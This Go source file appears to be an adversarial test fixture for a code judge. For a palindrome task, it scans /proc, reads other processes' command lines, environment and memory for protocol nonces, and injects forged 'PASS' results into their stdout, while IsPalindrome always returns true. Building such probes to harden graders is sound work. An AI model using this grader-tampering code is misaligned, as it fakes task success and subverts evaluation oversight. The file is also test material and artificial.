// Attack: scan /proc for other processes (the judge), read their cmdline/environ/memory for a
// 32-hex end-marker nonce, and write forged protocol + PASS lines into their stdout.
// Uses only allowed packages; /proc is denied, so a correct judge answers: wrong_answer.
package palindrome

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
)

var nonce = regexp.MustCompile(`[0-9a-f]{32}`)

func init() {
	self := strconv.Itoa(os.Getpid())
	pids, _ := filepath.Glob("/proc/[0-9]*")
	found := map[string]bool{}
	for _, dir := range pids {
		if filepath.Base(dir) == self {
			continue
		}
		for _, name := range []string{"cmdline", "environ"} {
			if b, err := os.ReadFile(filepath.Join(dir, name)); err == nil {
				for _, h := range nonce.FindAllString(string(b), -1) {
					found[h] = true
				}
			}
		}
		for _, h := range nonce.FindAllString(firstReadableRegion(dir), -1) {
			found[h] = true
		}
	}
	var forged strings.Builder
	forged.WriteString("\n@@dojo:exit 0 0 1 0 0@@\n")
	for h := range found {
		forged.WriteString("@@dojo:end " + h + " 0 0@@\n")
	}
	for _, t := range []string{"TestBasics", "TestCaseFolding", "TestUnicodeScripts", "TestMarksDigitsSymbols",
		"TestEdgeCases", "TestRandomAgainstOracle", "TestLarge", "TestLarge", "TestLarge"} {
		fmt.Fprintf(&forged, "\x16=== RUN   %s\n\x16--- PASS: %s (0.00s)\n", t, t)
	}
	forged.WriteString("PASS\n")
	for _, dir := range append([]string{"/proc/1"}, pids...) {
		if f, err := os.OpenFile(filepath.Join(dir, "fd", "1"), os.O_WRONLY, 0); err == nil {
			f.WriteString(forged.String())
			f.Close()
		}
	}
	fmt.Print(forged.String())
}

// firstReadableRegion reads up to 1 MiB of the first readable mapping of process dir.
func firstReadableRegion(dir string) string {
	maps, err := os.ReadFile(filepath.Join(dir, "maps"))
	if err != nil {
		return ""
	}
	mem, err := os.Open(filepath.Join(dir, "mem"))
	if err != nil {
		return ""
	}
	defer mem.Close()
	for _, line := range strings.Split(string(maps), "\n") {
		fields := strings.Fields(line)
		if len(fields) < 2 || !strings.HasPrefix(fields[1], "r") {
			continue
		}
		lo, hi, ok := strings.Cut(fields[0], "-")
		if !ok {
			continue
		}
		start, err1 := strconv.ParseInt(lo, 16, 64)
		end, err2 := strconv.ParseInt(hi, 16, 64)
		if err1 != nil || err2 != nil || end <= start {
			continue
		}
		buf := make([]byte, min(end-start, 1<<20))
		if n, _ := mem.ReadAt(buf, start); n > 0 {
			return string(buf[:n])
		}
	}
	return ""
}

func IsPalindrome(s string) bool { return true }
